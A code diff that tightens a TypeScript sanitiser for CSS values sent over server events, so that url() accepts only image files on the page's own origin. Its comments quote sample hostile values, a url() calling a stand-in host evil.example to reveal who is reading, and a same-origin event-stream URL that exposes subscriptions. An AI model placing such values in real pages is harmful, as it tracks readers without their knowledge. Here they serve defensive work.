@@ -3,8 +3,10 @@
  * look: `background-image: url(https://evil.example/?who=you)` tells another origin who is
  * reading the channel and when, and old engines ran `expression(…)`. So a value may call only
  * functions known not to load anything (colours, maths, gradients, transforms, filters), and
- * `url(…)` only when it resolves to the page's own origin. Everything else is refused, rather
- * than repaired, so what is applied is always exactly what was sent.
+ * `url(…)` only for an image file on the page's own origin: any other same-origin URL would make
+ * every reader's browser call the site with their cookies (`url(/event-stream?channels=spied)`
+ * shows who is reading). Everything else is refused, rather than repaired, so what is applied is
+ * always exactly what was sent.
  * @see https://docs.servicestack.net/server-events#css-selectors
  */
 
@@ -61,13 +63,17 @@ function urlArgument(text: string, open: number, close: number): string | undefi
   return /[\s"'(]/u.test(inner) ? undefined : inner;
 }
 
-function isSameOrigin(reference: string, pageHref: string | undefined): boolean {
+/** A path ending in one of these names a file; the site's endpoints have no extension. */
+const imageFile = /\.(?:png|jpe?g|gif|webp|avif|svg|ico)$/iu;
+
+function isSameOriginImage(reference: string, pageHref: string | undefined): boolean {
   if (pageHref === undefined || reference.trim() === "") return false;
   try {
     const url = new URL(reference, pageHref);
     return (
       (url.protocol === "http:" || url.protocol === "https:") &&
-      url.origin === new URL(pageHref).origin
+      url.origin === new URL(pageHref).origin &&
+      imageFile.test(url.pathname)
     );
   } catch {
     return false;
@@ -95,8 +101,8 @@ export function cssValueProblem(value: string, pageHref: string | undefined): st
     if (name === "url") {
       const close = value.indexOf(")", at);
       const reference = close < 0 ? undefined : urlArgument(value, at, close);
-      if (reference === undefined || !isSameOrigin(reference, pageHref))
-        return "url() must resolve to this page's origin";
+      if (reference === undefined || !isSameOriginImage(reference, pageHref))
+        return "url() must name an image file on this page's origin";
       at = close; // the argument is a URL, not more CSS: go on after it
     } else if (!safeFunctions.has(name)) {
       return name === "" ? "a bare '(' is not allowed" : `${name}() is not allowed`;
